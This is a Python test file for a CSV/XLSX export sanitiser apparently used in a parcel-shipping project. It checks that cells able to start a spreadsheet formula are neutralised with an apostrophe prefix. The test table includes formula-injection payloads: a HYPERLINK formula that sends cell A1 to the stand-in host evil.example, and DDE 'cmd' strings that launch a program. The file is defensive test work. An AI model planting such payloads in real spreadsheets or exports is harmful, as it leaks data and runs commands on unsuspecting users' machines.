"""CSV / formula injection: every cell we export is neutralised."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from parcelguard.exportsafe import SafeCsvWriter, is_dangerous, safe_cell, safe_row


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"点我")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"点我")',
        ),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\n=1+1", "'\n=1+1"),
        ("  =1+1", "'  =1+1"),
        ("＝1+1", "'＝1+1"),
        ("\u3000=1+1", "'\u3000=1+1"),
        ("张*", "张*"),
        ("138******78", "138******78"),
        ("浙江省杭州市西湖区文三路***", "浙江省杭州市西湖区文三路***"),
        ("+8613800000000", "+8613800000000"),
        ("-12.5", "-12.5"),
        ("", ""),
        (42, 42),
        (None, None),
    ],
)
def test_table(value: object, expected: object) -> None:
    assert safe_cell(value) == expected


@given(st.text())
def test_no_safe_cell_can_start_a_formula(text: str) -> None:
    cell = safe_cell(text)
    assert cell == text or cell == "'" + text
    if cell == text:
        assert not is_dangerous(text)
        assert text[:1] not in ("\t", "\r", "\n")
        stripped = text.lstrip(" \u3000")
        assert stripped[:1] not in ("=", "@", "＝", "＠") or stripped == ""


def test_writer_round_trip_keeps_the_text(tmp_path: Path) -> None:
    rows = [["waybill", "note"], ["PG1", "=1+2"], ["PG2", "plain"], ["PG3", "@x"]]
    buffer = io.StringIO()
    SafeCsvWriter(buffer).writerows(rows)
    read = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert read == [["waybill", "note"], ["PG1", "'=1+2"], ["PG2", "plain"], ["PG3", "'@x"]]


def test_xlsx_cells_are_text_not_formulas(tmp_path: Path) -> None:
    from openpyxl import Workbook, load_workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(safe_row(['=HYPERLINK("http://evil.example")', "ok"]))
    path = tmp_path / "export.xlsx"
    book.save(path)
    cell = load_workbook(path).active["A1"]  # type: ignore[index]
    assert cell.data_type == "s"  # a string, not a formula ("f")
    assert str(cell.value).startswith("'=")
